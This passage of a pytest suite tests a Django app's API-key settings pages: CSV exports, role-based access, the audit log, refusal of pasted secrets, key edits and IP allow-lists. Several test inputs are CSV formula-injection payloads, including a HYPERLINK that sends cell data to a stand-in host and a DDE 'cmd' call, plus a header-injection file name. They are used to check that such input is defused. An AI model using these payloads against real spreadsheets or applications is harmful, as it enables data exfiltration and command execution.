        *(f"{today - timedelta(days=n):%Y-%m-%d},0,0,0" for n in range(5, 0, -1)),
        f"{today:%Y-%m-%d},100,7,3",
    ]
    # Without ?days: the last 30 days, as on the page.
    default = client.get(f"/settings/api-keys/{key.pk}/usage.csv")
    assert len(_csv_lines(default)) == 31 and _csv_lines(default)[-1] == f"{today:%Y-%m-%d},100,7,3"
    assert (
        f"-usage-{today - timedelta(days=29):%Y-%m-%d}-{today:%Y-%m-%d}.csv" in default["Content-Disposition"]
    )
    assert len(_csv_lines(client.get(f"/settings/api-keys/{key.pk}/usage.csv?days=90"))) == 91


@pytest.mark.parametrize(
    ("name", "slug"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1, "Click")', "hyperlinkhttpevilexamplexa1-click"),
        ("+cmd|' /C calc'!A0", "cmd-c-calca0"),
        ('report"; filename="evil.exe', "report-filenameevilexe"),
        ("Ключ ☃", "api-key"),  # nothing left for a file name: a neutral one
    ],
)
def test_a_key_name_cannot_reach_the_csv_cells_or_its_file_name(demo, login, make_key, name, slug):
    key = make_key(name=name).key
    KeyUsageDay.objects.create(key=key, day=timezone.now().date(), total=3, success=2, denied=1)
    response = login("advanced@acme.test").get(f"/settings/api-keys/{key.pk}/usage.csv?days=2")
    assert response.status_code == 200
    assert re.fullmatch(
        rf'attachment; filename="{slug}-usage-\d{{4}}-\d{{2}}-\d{{2}}-\d{{4}}-\d{{2}}-\d{{2}}\.csv"',
        response["Content-Disposition"],
    )
    header, *rows = _csv_lines(response)
    assert header == "date,calls,errors,rate_limited" and len(rows) == 2
    assert all(CSV_ROW.fullmatch(row) for row in rows), rows


@pytest.mark.parametrize("days", ["0", "91", "abc", "-7", "1.5", "99999999999999999999"])
def test_usage_csv_with_bad_days_is_a_clear_400(demo, login, make_key, days):
    key = make_key(name="k").key
    response = login("advanced@acme.test").get(f"/settings/api-keys/{key.pk}/usage.csv?days={days}")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Choose a number of days from 1 to 90" in response.content.decode()


def test_usage_csv_follows_the_detail_pages_visibility(demo, login, make_key, make_user):
    shared = make_key(name="shared", role=Role.ADMIN_API).key
    south = make_key(name="south", account=demo.south, role=Role.SUPPORT, scopes=["api-keys:read"]).key
    above = make_key(name="above", role=Role.ADVANCED_ADMIN).key
    foreign = make_key(organization=demo.globex, name="theirs").key
    denied = AuditEvent.objects.filter(action=AuditAction.PERMISSION_DENIED)
    for email in (ROLE_EMAILS[Role.ADMIN], ROLE_EMAILS[Role.VIEWER]):
        before = denied.count()
        response = login(email).get(f"/settings/api-keys/{shared.pk}/usage.csv")
        assert response.status_code == 403 and "text/csv" not in response["Content-Type"]
        assert denied.count() == before + 1
    advanced = login("advanced@acme.test")
    assert advanced.get(f"/settings/api-keys/{foreign.pk}/usage.csv").status_code == 404
    assert advanced.get("/settings/api-keys/not-a-uuid/usage.csv").status_code == 404
    adminapi = login("adminapi@acme.test")
    assert adminapi.get(f"/settings/api-keys/{above.pk}/usage.csv").status_code == 404  # above its role
    assert adminapi.get(f"/settings/api-keys/{shared.pk}/usage.csv").status_code == 200
    make_user("support-north@acme.test", Role.SUPPORT, account=demo.north)
    north_support = login("support-north@acme.test")
    assert north_support.get(f"/settings/api-keys/{south.pk}/usage.csv").status_code == 404  # other subtree


# ---------------------------------------------------------------- roles × views × methods

ALLOWED = {"advanced", "adminapi"}
READERS = {"advanced", "adminapi", "support"}


def _views(key_id):
    """(name, method, path, data, who gets the success status, success status)."""
    return [
        ("list", "get", "/settings/api-keys/", None, READERS, 200),
        ("create form", "get", "/settings/api-keys/new/", None, ALLOWED, 200),
        ("scopes", "get", "/settings/api-keys/new/scopes/", None, ALLOWED, 200),
        ("create", "post", "/settings/api-keys/new/", "create", ALLOWED, 200),
        ("detail", "get", f"/settings/api-keys/{key_id}/", None, READERS, 200),
        ("regenerate form", "get", f"/settings/api-keys/{key_id}/regenerate/", None, ALLOWED, 200),
        (
            "regenerate",
            "post",
            f"/settings/api-keys/{key_id}/regenerate/",
            {"grace_period": "0"},
            ALLOWED,
            200,
        ),
        ("revoke form", "get", f"/settings/api-keys/{key_id}/revoke/", None, ALLOWED, 200),
        ("revoke", "post", f"/settings/api-keys/{key_id}/revoke/", {}, ALLOWED, 302),
        ("usage csv", "get", f"/settings/api-keys/{key_id}/usage.csv", None, READERS, 200),
        ("audit log", "get", "/settings/audit-log/", None, READERS, 200),
    ]


VIEW_NAMES = [v[0] for v in _views("x")]
WHO = {
    "advanced": ROLE_EMAILS[Role.ADVANCED_ADMIN],
    "adminapi": ROLE_EMAILS[Role.ADMIN_API],
    "admin": ROLE_EMAILS[Role.ADMIN],
    "support": ROLE_EMAILS[Role.SUPPORT],
    "viewer": ROLE_EMAILS[Role.VIEWER],
}


@pytest.mark.parametrize("view", VIEW_NAMES)
@pytest.mark.parametrize("who", [*WHO, "anonymous", "superuser"])
def test_role_matrix(demo, client, make_key, who, view):
    # An Admin + API key on the root account: every manager may act on it.
    key = make_key(name="shared", role=Role.ADMIN_API).key
    name, method, path, data, allowed, success = next(v for v in _views(key.pk) if v[0] == view)
    if data == "create":
        data = form_data(demo, role=int(Role.ADMIN_API))
    if who == "anonymous":
        pass
    elif who == "superuser":
        client.force_login(demo.user("root@acme.test"))
    else:
        client.force_login(demo.user(WHO[who]))
    before = AuditEvent.objects.filter(action=AuditAction.PERMISSION_DENIED).count()
    response = getattr(client, method)(path, data or {})
    if who == "anonymous":
        assert response.status_code == 302 and response.url.startswith("/login/")
        return
    expected = success if who in allowed else 403
    assert response.status_code == expected, (who, name, response.status_code)
    denied = AuditEvent.objects.filter(action=AuditAction.PERMISSION_DENIED)
    if expected == 403:
        # Every refusal is an audit event, with who, what and from where.
        assert denied.count() == before + 1
        event = denied.latest("occurred_at")
        assert event.details["path"] == path and event.ip == "127.0.0.1"
        assert (
            event.actor_label == (demo.user("root@acme.test") if who == "superuser" else WHO[who]).__str__()
        )
        assert "Not allowed" in response.content.decode()
    else:
        assert denied.count() == before


@pytest.mark.parametrize("who", ["support", "admin", "viewer"])
def test_htmx_requests_are_refused_too(demo, login, make_key, who):
    key = make_key(name="k", role=Role.ADMIN_API).key
    client = login(WHO[who])
    assert client.get("/settings/api-keys/new/", **HX).status_code == 403
    assert client.post(f"/settings/api-keys/{key.pk}/revoke/", **HX).status_code == 403
    assert ApiKey.objects.get(pk=key.pk).revoked_at is None


def test_support_sees_no_manage_controls(demo, login, make_key):
    make_key(name="visible")
    html = login("support@acme.test").get("/settings/api-keys/").content.decode()
    assert "visible" in html and "+ Add API Key" not in html


def test_settings_menu_hides_what_the_role_cannot_use(demo, login):
    html = login("support@acme.test").get("/settings/api-keys/").content.decode()
    assert 'href="/settings/api-keys/">API Keys</a>' in html and ">Audit log</a>" in html


# ---------------------------------------------------------------- audit log


def test_audit_log_full_partial_filters_and_pagination(demo, login, make_key):
    issued = make_key(name="audited")
    client = login("advanced@acme.test")
    client.post(f"/settings/api-keys/{issued.key.pk}/revoke/")
    login("viewer@acme.test").get("/settings/api-keys/")  # a refusal
    client = login("advanced@acme.test")
    full = client.get("/settings/audit-log/")
    assert is_full_page(full)
    html = full.content.decode()
    for label in ("Action", "Actor", "Key", "From", "To"):
        assert f">{label}</label>" in html
    assert "Key revoked" in html and "Permission denied" in html
    partial = client.get("/settings/audit-log/", {"action": "key.revoked"}, **HX)
    body = partial.content.decode()
    assert not is_full_page(partial) and body.lstrip().startswith('<div id="audit-table"')
    assert "Key revoked" in body and "Permission denied</span>" not in body
    assert f'<a href="/settings/api-keys/{issued.key.pk}/">audited</a>' in body

    def rows(**params) -> int:
        return client.get("/settings/audit-log/", params, **HX).content.decode().count("<tr>") - 1

    assert rows(actor="viewer@", action="permission.denied") == 1
    assert rows(key="audited") == 2  # created (by the test system actor) and revoked
    assert rows(key=issued.key.client_id[:12]) == 2
    today = timezone.now().date()
    assert rows(date_from=today.isoformat(), date_to=today.isoformat()) >= 3
    assert "No events match" in client.get("/settings/audit-log/", {"date_to": "2000-01-01"}).content.decode()
    assert client.get("/settings/audit-log/", {"date_from": "not a date"}).status_code == 200


def test_audit_log_is_newest_first_and_paginated(demo, login, make_key):
    for n in range(55):
        make_key(name=f"k{n:02d}")
    client = login("advanced@acme.test")
    html = client.get("/settings/audit-log/", {"action": "key.created"}).content.decode()
    assert "Showing 1–50 of 55 events" in html
    names = re.findall(r"name: (k\d\d)", html)
    assert names[0] == "k54" and names == sorted(names, reverse=True)
    page2 = client.get("/settings/audit-log/", {"action": "key.created", "page": 2}, **HX).content.decode()
    assert "Showing 51–55 of 55 events" in page2


def test_audit_log_of_another_tenant_is_not_shown(demo, login, make_key):
    make_key(organization=demo.globex, name="globex secret project")
    html = login("advanced@acme.test").get("/settings/audit-log/").content.decode()
    assert "globex secret project" not in html


def test_audit_log_hides_keys_above_an_admin_api_users_role(demo, login, make_key):
    above = make_key(name="top secret integration", role=Role.ADVANCED_ADMIN).key
    mine = make_key(name="team integration", role=Role.ADMIN_API).key
    html = login("adminapi@acme.test").get("/settings/audit-log/", {"action": "key.created"}).content.decode()
    assert "team integration" in html and mine.client_id in html
    assert "top secret integration" not in html and above.client_id not in html
    # The selector drops events about keys above the user's role: not even a masked row remains.
    assert "Showing 1–1 of 1 event<" in html


# ---------------------------------------------------------------- a secret pasted in the wrong place


@pytest.mark.parametrize("htmx", [False, True])
def test_a_secret_pasted_as_a_name_is_refused_and_not_echoed(demo, login, make_key, api, htmx):
    pasted = make_key().secret
    client = login("advanced@acme.test")
    response = client.post(
        "/settings/api-keys/new/", form_data(demo, name=f"prod {pasted}"), **(HX if htmx else {})
    )
    assert "looks like a Client Secret" in field_error(response, "name")
    assert pasted not in response.content.decode() and pasted[8:30] not in response.content.decode()
    assert not ApiKey.objects.filter(name__contains="sk_live").exists()
    refused = api("post", "/api/v1/org/api-keys", pasted, json={"name": pasted, "scopes": ["api-keys:read"]})
    assert refused.status_code == 400 and refused.json()["error"]["code"] == "validation_error"
    assert pasted not in refused.content.decode()


@pytest.mark.parametrize("htmx", [False, True])
@pytest.mark.parametrize("other_q", [None, "findable"])
def test_a_secret_pasted_into_search_is_not_searched_or_echoed(demo, login, make_key, htmx, other_q):
    issued = make_key(name="findable")
    make_key(name="a key named like disk_live_monitoring_01")  # not a secret: searchable
    client = login("advanced@acme.test")
    query = {"q": [issued.secret] + ([other_q] if other_q else []), "status": "active"}
    response = client.get("/settings/api-keys/", query, **(HX if htmx else {}))
    if htmx:
        html = response.content.decode()
        assert response["HX-Replace-Url"] == "/settings/api-keys/?status=active"
    else:
        # Redirected to the URL without it, so it leaves the address bar (and Referer headers).
        assert response.status_code == 302 and response["Location"] == "/settings/api-keys/?status=active"
        html = client.get(response["Location"]).content.decode()
    assert "looked like a Client Secret" in html
    assert issued.secret[8:30] not in html and "findable" in html  # the other filters still apply
    searched = client.get("/settings/api-keys/", {"q": "disk_live_monitoring"}).content.decode()
    assert "a key named like disk_live_monitoring_01" in searched and "looked like" not in searched


# ---------------------------------------------------------------- edit: rename, expiry earlier


def _edit(client, key, htmx=False, **data):
    return client.post(f"/settings/api-keys/{key.pk}/edit/", data, **(HX if htmx else {}))


def test_edit_dialog_full_page_and_partial(demo, login, make_key):
    issued = make_key(name="erp", expires_in_days=30)
    client = login("advanced@acme.test")
    detail = client.get(f"/settings/api-keys/{issued.key.pk}/").content.decode()
    assert 'id="edit-button"' in detail
    page = client.get(f"/settings/api-keys/{issued.key.pk}/edit/")
    assert page.status_code == 200 and is_full_page(page)
    partial = client.get(f"/settings/api-keys/{issued.key.pk}/edit/", **HX)
    html = partial.content.decode()
    assert not is_full_page(partial)
    assert re.search(r'<dialog [^>]*aria-labelledby="edit-title" aria-describedby="edit-note"', html)
    assert 'value="erp"' in html and 'type="datetime-local"' in html
    assert issued.key.expires_at.strftime("%Y-%m-%dT%H:%M") in html


@pytest.mark.parametrize("htmx", [False, True])
def test_rename_and_bring_expiry_earlier(demo, login, make_key, api, htmx):
    from datetime import timedelta

    issued = make_key(name="erp", expires_in_days=30)
    client = login("advanced@acme.test")
    sooner = (issued.key.expires_at - timedelta(days=10)).replace(second=0, microsecond=0)
    response = _edit(
        client, issued.key, htmx, name="ERP nightly", expires_at=sooner.strftime("%Y-%m-%dT%H:%M")
    )
    if htmx:
        assert response["HX-Redirect"] == f"/settings/api-keys/{issued.key.pk}/"
    else:
        assert response.status_code == 302
    key = ApiKey.objects.get(pk=issued.key.pk)
    assert key.name == "ERP nightly" and key.expires_at == sooner
    event = AuditEvent.objects.get(key=key, action=AuditAction.KEY_UPDATED)
    assert event.details["name"] == ["erp", "ERP nightly"] and event.actor_label == "advanced@acme.test"
    assert api("get", "/api/v1/key", issued.secret).status_code == 200  # the secret is unchanged
    detail = client.get(f"/settings/api-keys/{key.pk}/").content.decode()
    assert "Saved." in detail and "ERP nightly" in detail


def test_saving_unchanged_values_records_nothing(demo, login, make_key):
    issued = make_key(name="erp", expires_in_days=30)
    client = login("advanced@acme.test")
    response = _edit(
        client, issued.key, name="erp", expires_at=issued.key.expires_at.strftime("%Y-%m-%dT%H:%M")
    )
    assert response.status_code == 302
    assert not AuditEvent.objects.filter(action=AuditAction.KEY_UPDATED).exists()
    assert ApiKey.objects.get(pk=issued.key.pk).expires_at == issued.key.expires_at


@pytest.mark.parametrize(
    ("expires_in_days", "data", "field", "message"),
    [
        (30, {"name": ""}, "name", "Give the key a name."),
        (30, {"name": "x" * 129}, "name", "at most 128 characters"),
        (30, {"name": "taken"}, "name", "already exists"),
        (30, {"expires_at": "LATER"}, "expires_at", "can only be brought earlier"),
        (30, {"expires_at": "2001-01-01T00:00"}, "expires_at", "must be in the future"),
        (30, {"expires_at": "soon"}, "expires_at", "Enter a date and time"),
        (30, {"expires_at": ""}, "expires_at", "cannot be made to never expire"),
        (30, {"expires_at": "\x00"}, "expires_at", "Enter a date and time"),
        (None, {"expires_at": "9999-12-31T23:59"}, "expires_at", "at most 3650 days from now"),
    ],
)
@pytest.mark.parametrize("htmx", [False, True])
def test_edit_errors_are_next_to_their_field(
    demo, login, make_key, expires_in_days, data, field, message, htmx
):
    make_key(name="taken")
    issued = make_key(name="erp", expires_in_days=expires_in_days)
    current = issued.key.expires_at.strftime("%Y-%m-%dT%H:%M") if issued.key.expires_at else ""
    values = {"name": "erp", "expires_at": current, **data}
    if values["expires_at"] == "LATER":  # ten days after the current expiry
        values["expires_at"] = (issued.key.expires_at + timedelta(days=10)).strftime("%Y-%m-%dT%H:%M")
    response = _edit(login("advanced@acme.test"), issued.key, htmx, **values)
    assert response.status_code == 200 and is_full_page(response) is not htmx
    assert message in field_error(response, field)
    key = ApiKey.objects.get(pk=issued.key.pk)
    assert key.name == "erp" and key.expires_at == issued.key.expires_at


def test_a_key_that_never_expires_can_be_given_an_expiry(demo, login, make_key):
    from datetime import timedelta

    from django.utils import timezone

    issued = make_key(name="forever")
    when = (timezone.now() + timedelta(days=3)).replace(second=0, microsecond=0)
    client = login("advanced@acme.test")
    assert _edit(client, issued.key, name="forever", expires_at="").status_code == 302  # stays never
    assert ApiKey.objects.get(pk=issued.key.pk).expires_at is None
    assert (
        _edit(client, issued.key, name="forever", expires_at=when.strftime("%Y-%m-%dT%H:%M")).status_code
        == 302
    )
    assert ApiKey.objects.get(pk=issued.key.pk).expires_at == when


def test_edit_is_for_those_who_may_manage_the_key(demo, client, make_key):
    from accounts.models import Role

    above = make_key(name="above", role=Role.ADVANCED_ADMIN)
    managed = make_key(name="managed", role=Role.ADMIN_API)
    foreign = make_key(name="foreign", organization=demo.globex)
    revoked = make_key(name="revoked")
    from accounts.actors import Actor
    from keys.services import revoke_key

    revoke_key(actor=Actor.system(demo.acme.pk), key=revoked.key)
    cases = [
        ("adminapi@acme.test", managed, 200),
        ("adminapi@acme.test", above, 404),
        ("support@acme.test", managed, 403),
        ("viewer@acme.test", managed, 403),
        ("advanced@globex.test", managed, 404),
        ("advanced@acme.test", foreign, 404),
        ("advanced@acme.test", revoked, 404),
    ]
    for email, issued, expected in cases:
        client.force_login(demo.user(email))
        assert client.get(f"/settings/api-keys/{issued.key.pk}/edit/").status_code == expected, email
        if expected != 200:
            assert _edit(client, issued.key, name="hijacked").status_code == expected, email
    assert not ApiKey.objects.filter(name="hijacked").exists()
    client.force_login(demo.user("support@acme.test"))
    assert 'id="edit-button"' not in client.get(f"/settings/api-keys/{managed.key.pk}/").content.decode()


def test_an_edit_reads_as_before_and_after_in_the_audit_log(demo, login, make_key):
    issued = make_key(name="erp", expires_in_days=30)
    client = login("advanced@acme.test")
    sooner = (issued.key.expires_at - timedelta(days=10)).replace(second=0, microsecond=0)
    _edit(client, issued.key, name="ERP nightly", expires_at=sooner.strftime("%Y-%m-%dT%H:%M"))
    html = client.get("/settings/audit-log/").content.decode()
    assert "name: erp → ERP nightly" in html
    assert f"expires at: {issued.key.expires_at:%b %-d, %Y %H:%M} UTC → {sooner:%b %-d, %Y %H:%M} UTC" in html


def test_the_application_links_to_its_page_and_the_api_docs_are_linked(demo, login, make_key):
    issued = make_key(application=demo.incharge, scopes=["billing:read"], name="linked")
    client = login("support@acme.test")
    html = client.get("/settings/api-keys/").content.decode()
    assert '<a href="/settings/applications/incharge/">InCharge</a>' in html
    assert (
        '<a href="/api/v1/docs">REST API docs</a>' in html
        and '<a href="/api/graphql">GraphQL explorer</a>' in html
    )
    detail = client.get(issued.key.get_absolute_url()).content.decode()
    assert '<a href="/settings/applications/incharge/">InCharge</a>' in detail


def test_disable_and_enable_with_a_confirmation(demo, login, make_key, api):
    issued = make_key(name="paused")
    client = login("advanced@acme.test")
    url = f"/settings/api-keys/{issued.key.pk}/"
    assert 'id="disable-button"' in client.get(url).content.decode()
    dialog = client.get(f"{url}disable/", **HX).content.decode()
    assert re.search(r'<dialog [^>]*aria-labelledby="disable-title" aria-describedby="disable-note"', dialog)
    assert "enabling brings back the same secret" in dialog and ">Disable</button>" in dialog
    response = client.post(f"{url}disable/", **HX)
    assert response.status_code == 200 and response["HX-Redirect"] == url
    detail = client.get(url).content.decode()
    assert 'id="disabled-notice"' in detail and 'class="badge badge-warning">Disabled' in detail
    assert 'id="enable-button"' in detail and 'id="disable-button"' not in detail
    assert ">Regenerate</button>" not in detail
    assert api("get", "/api/v1/key", issued.secret).status_code == 401
    client.force_login(demo.user("advanced@acme.test"))
    listed = client.get("/settings/api-keys/?status=disabled").content.decode()
    assert "paused" in listed
    response = client.post(f"{url}enable/")  # without JavaScript: a redirect to the key
    assert response.status_code == 302 and response["Location"] == url
    assert api("get", "/api/v1/key", issued.secret).status_code == 200
    assert client.get(f"{url}disable/").status_code == 200  # the confirmation as a page of its own


def test_disabling_a_revoked_key_is_an_error_in_the_dialog_and_support_is_refused(demo, login, make_key):
    issued = make_key(name="gone", role=Role.SUPPORT, scopes=["api-keys:read"])
    client = login("advanced@acme.test")
    url = f"/settings/api-keys/{issued.key.pk}/"
    client.post(f"{url}revoke/")
    response = client.post(f"{url}disable/", **HX)
    assert response.status_code == 200 and "it cannot be disabled" in response.content.decode()
    client = login("support@acme.test")
    assert client.get(f"{url}disable/").status_code == 403
    assert client.post(f"{url}enable/").status_code == 403


# ---------------------------------------------------------------- allowed networks


def test_create_with_allowed_networks_shows_them_on_the_detail(demo, login):
    client = login("advanced@acme.test")
    data = form_data(demo, name="plant", allowed_ips="192.0.2.0/24, 2001:DB8::/32\r\n203.0.113.7")
    assert client.post("/settings/api-keys/new/", data).status_code == 200
    key = ApiKey.objects.get(name="plant")
    assert key.allowed_ips == ["192.0.2.0/24", "2001:db8::/32", "203.0.113.7"]
    detail = client.get(f"/settings/api-keys/{key.pk}/").content.decode()
    listed = re.search(r'id="detail-allowed-ips">(.*?)</dd>', detail).group(1)
    assert re.findall(r"<code[^>]*>([^<]+)</code>", listed) == key.allowed_ips
    edit = client.get(f"/settings/api-keys/{key.pk}/edit/").content.decode()
    assert "192.0.2.0/24\n2001:db8::/32\n203.0.113.7</textarea>" in edit
    assert "Only narrower" in edit


@pytest.mark.parametrize("htmx", [False, True])
def test_allowed_networks_are_narrowed_on_the_edit_dialog_never_widened(demo, login, make_key, htmx):
    issued = make_key(name="erp", allowed_ips=["192.0.2.0/24"])
    client = login("advanced@acme.test")
    widened = _edit(client, issued.key, htmx, name="erp", allowed_ips="192.0.2.0/24\n198.51.100.0/24")
    assert widened.status_code == 200
    assert "198.51.100.0/24 is outside the networks the key may be used from now" in field_error(
        widened, "allowed_ips"
    )
    emptied = _edit(client, issued.key, htmx, name="erp", allowed_ips="")
    assert "would let the key work from anywhere" in field_error(emptied, "allowed_ips")
    assert ApiKey.objects.get(pk=issued.key.pk).allowed_ips == ["192.0.2.0/24"]
    narrowed = _edit(client, issued.key, htmx, name="erp", allowed_ips="192.0.2.0/26")
    assert narrowed.status_code == 200 if htmx else narrowed.status_code == 302
    assert ApiKey.objects.get(pk=issued.key.pk).allowed_ips == ["192.0.2.0/26"]
    event = AuditEvent.objects.get(action=AuditAction.KEY_UPDATED, key=issued.key)
    assert event.details == {"allowed_ips": [["192.0.2.0/24"], ["192.0.2.0/26"]]}


def test_the_key_list_as_csv_carries_the_description_and_defuses_formulas(login, make_key):
    import csv
    import io

    from accounts.actors import Actor
    from accounts.models import User
    from keys.services import update_key

    advanced = Actor.for_user(User.objects.get(email="advanced@acme.test"))
    erp = make_key(name="ERP production")
    update_key(actor=advanced, key=erp.key, description="Run by the SAP team; secret in Vault kv/erp")
    sneaky = make_key(name='=HYPERLINK("http://evil.test")')
    update_key(actor=advanced, key=sneaky.key, description="@SUM(1+1)")
    client = login("advanced@acme.test")
    html = client.get("/settings/api-keys/?q=vault").content.decode()
    assert 'href="/settings/api-keys/export.csv?q=vault"' in html
    response = client.get("/settings/api-keys/export.csv?q=vault")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["name"] for r in rows] == ["ERP production"]  # the list's search: the description too
    assert rows[0]["description"] == "Run by the SAP team; secret in Vault kv/erp"
    assert rows[0]["client_id"] == erp.key.client_id and rows[0]["expires_at"] == ""
    everything = client.get("/settings/api-keys/export.csv")
    rows = {
        r["client_id"]: r
        for r in csv.DictReader(io.StringIO(b"".join(everything.streaming_content).decode()))
    }
    assert rows[sneaky.key.client_id]["name"] == '\'=HYPERLINK("http://evil.test")'
    assert rows[sneaky.key.client_id]["description"] == "'@SUM(1+1)"


def test_who_cannot_see_keys_gets_no_csv(login):
    assert login("admin@acme.test").get("/settings/api-keys/export.csv").status_code == 403
